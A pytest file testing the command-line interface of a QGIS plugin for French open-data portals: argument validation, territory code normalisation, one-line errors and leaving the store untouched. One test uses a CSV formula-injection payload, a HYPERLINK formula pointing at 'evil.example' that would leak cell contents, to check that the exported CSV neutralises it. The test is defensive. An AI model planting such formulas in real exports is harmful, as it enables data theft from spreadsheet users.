"""The command line refuses bad arguments and files with one line, the right exit code and the store untouched;
codes are normalised; CSV outputs are inert; no traceback ever reaches the user."""
import csv
import io
import json
import os
import shutil
import subprocess
import sys

import pytest
from data_paths import ACTORS_2022, ROOT
from fake_portals import make_store
from snapshot_checks import fingerprint, state

pytestmark = pytest.mark.slow


def cli(*args, env=None):
    full_env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "NO_PROXY": "127.0.0.1,localhost", **(env or {})}
    return subprocess.run([sys.executable, "-m", "odt_qgis_plugin", *map(str, args)], cwd=ROOT, env=full_env,
                          capture_output=True, text=True, timeout=300)


def one_line(result) -> str:
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


@pytest.fixture(scope="module")
def store(actors_store, tmp_path_factory):
    """The national store with the real registry: only read (each test checks it stayed as it was)."""
    path = tmp_path_factory.mktemp("door") / "store.gpkg"
    shutil.copyfile(actors_store, path)
    return path


@pytest.mark.parametrize("args, words", [
    (["harvest", "--timeout", "inf"], "argument --timeout: expected a number above 0 and at most 3600, got 'inf'"),
    (["harvest", "--timeout", "nan"], "argument --timeout: expected"),
    (["harvest", "--only-stale", "nan"], "argument --only-stale: expected a number above 0"),
    (["harvest", "--concurrency", "0"], "argument --concurrency: expected a whole number from 1 to 256"),
    (["harvest", "--per-host", "1e9"], "argument --per-host: expected"),
    (["harvest", "--max-retry-after", "-1"], "argument --max-retry-after: expected a number from 0 to 86400"),
    (["harvest", "--actor-timeout", "inf"], "argument --actor-timeout: expected"),
    (["whatif", "--scenario", "x", "--threshold", "-5"], "argument --threshold: expected a whole number from 0"),
    (["indicators", "--out", "-", "--threshold", "1.5"], "argument --threshold: expected a whole number"),
    (["import-actors", ACTORS_2022, "--threshold", "nan"], "argument --threshold"),
    (["render", "--out", "x.png", "--width", "0"], "argument --width: expected a whole number from 16 to 20000"),
])
def test_numeric_options_are_checked_by_argparse(store, args, words):
    before = state(store)
    result = cli(args[0], "--store", store, *args[1:])
    line = one_line(result)
    assert result.returncode == 2 and words in line and line.endswith("(see --help)")
    assert state(store) == before and result.stdout == ""


def test_a_bad_setting_in_the_environment_is_one_line(store):
    result = cli("harvest", "--store", store, env={"ODT_HARVEST_TIMEOUT": "inf"})
    assert result.returncode == 2 and one_line(result) == (
        "Error: ODT_HARVEST_TIMEOUT: expected a number above 0 and at most 3600, got 'inf'")


@pytest.mark.parametrize("args, message", [
    (["whatif", "--scenario", "x", "--region", "99"], "Error: Unknown région code 99"),
    (["whatif", "--scenario", "x", "--departement", "99"], "Error: Unknown département code 99"),
    (["whatif", "--scenario", "x", "--epci", "123456789"],
     "Error: Unknown EPCI 123456789: no EPCI of the store has this SIREN"),
    (["whatif", "--scenario", "x", "--rule", "communes-above:5000:region=99"], "Error: Unknown région code 99"),
    (["indicators", "--out", "-", "--region", "99"], "Error: Unknown région code 99"),
    (["export", "--template", "a4-portrait", "--territory", "region:99", "--out", "{tmp}/x.pdf"],
     "Error: Unknown région code 99"),
    (["render", "--layer", "regions", "--region", "99", "--out", "{tmp}/x.png"], "Error: No territory with code 99"),
])
def test_unknown_territories_are_refused_everywhere(store, tmp_path, args, message):
    before = state(store)
    result = cli(args[0], "--store", store, *[a.replace("{tmp}", str(tmp_path)) for a in args[1:]])
    assert result.returncode == 1 and one_line(result) == message and result.stdout == ""
    assert state(store) == before and list(tmp_path.iterdir()) == []


def test_codes_are_normalised(store):
    lower = cli("whatif", "--store", store, "--scenario", "x", "--departement", "2a")
    upper = cli("whatif", "--store", store, "--scenario", "x", "--departement", "2A")
    assert lower.returncode == 0 and lower.stdout == upper.stdout
    assert json.loads(lower.stdout)["scope"] == {"level": "departement", "code": "2A"}
    # Corse-du-Sud has 124 communes in the 2026 reference.
    assert json.loads(lower.stdout)["observed"]["engaged_collectivities"]["total"] > 124
    indicators = cli("indicators", "--store", store, "--departement", "2a", "--format", "csv", "--out", "-")
    assert indicators.returncode == 0, indicators.stderr
    assert indicators.stdout == cli("indicators", "--store", store, "--departement", "2A", "--format", "csv",
                                    "--out", "-").stdout
    region = cli("indicators", "--store", store, "--region", "6", "--out", "-")  # Mayotte, typed without its 0
    assert region.returncode == 0 and json.loads(region.stdout)["by_region"]


def test_a_scenario_named_like_a_formula_comes_out_inert(store):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
    result = cli("whatif", "--store", store, "--scenario", name, "--region", "52", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 5 and {row["scenario"] for row in rows} == {"'" + name}
    for row in rows:
        for key in ("observed", "what_if", "delta"):
            assert not row[key].startswith("'")  # numbers stay numbers


def test_files_of_the_wrong_kind_are_one_line(store, tmp_path):
    before = state(store)
    utf16_no_bom = tmp_path / "registry.csv"
    utf16_no_bom.write_bytes(ACTORS_2022.read_text(encoding="utf-8").encode("utf-16-le"))
    result = cli("import-actors", "--store", store, utf16_no_bom)
    assert result.returncode == 1 and "UTF-16 text without a byte-order mark" in one_line(result)
    groups = tmp_path / "groups.json"
    groups.write_text('{"groups": [{"name": "G", "hosts": "abc"}]}', encoding="utf-8")
    result = cli("footprints", "--store", store, "--platform-groups", groups)
    assert result.returncode == 1 and '"hosts" must be a list of host names' in one_line(result)
    endpoints = tmp_path / "endpoints.json"
    endpoints.write_text('{"format": 1, "platforms": {"opendatasoft": {"catalog": 5}}}', encoding="utf-8")
    result = cli("harvest", "--store", store, "--endpoints", endpoints)
    assert result.returncode == 1 and "platforms.opendatasoft.catalog must be text, not 5" in one_line(result)
    assert state(store) == before


def test_a_binary_sirens_file_is_one_line_and_builds_nothing(tmp_path):
    binary = tmp_path / "sirens.csv"
    binary.write_bytes(bytes(range(256)) * 16)
    out = tmp_path / "new.gpkg"
    result = cli("build-store", "--out", out, "--sirens", binary)
    assert result.returncode == 1 and "not a text file (binary content" in one_line(result)
    assert not out.exists()


def test_an_unexpected_error_is_one_line(tmp_path):
    store = make_store(tmp_path / "store.gpkg", [{"siren": "213500010", "url_platform": "http://127.0.0.1:9/x"}])
    before = fingerprint(store)
    # A folder where the registry should be, a store without territories: one line each, the store as it was.
    for args in (["import-actors", "--store", store, tmp_path], ["whatif", "--store", store, "--scenario", "x"]):
        result = cli(*args)
        assert result.returncode == 1 and one_line(result).startswith("Error:")
    assert fingerprint(store) == before
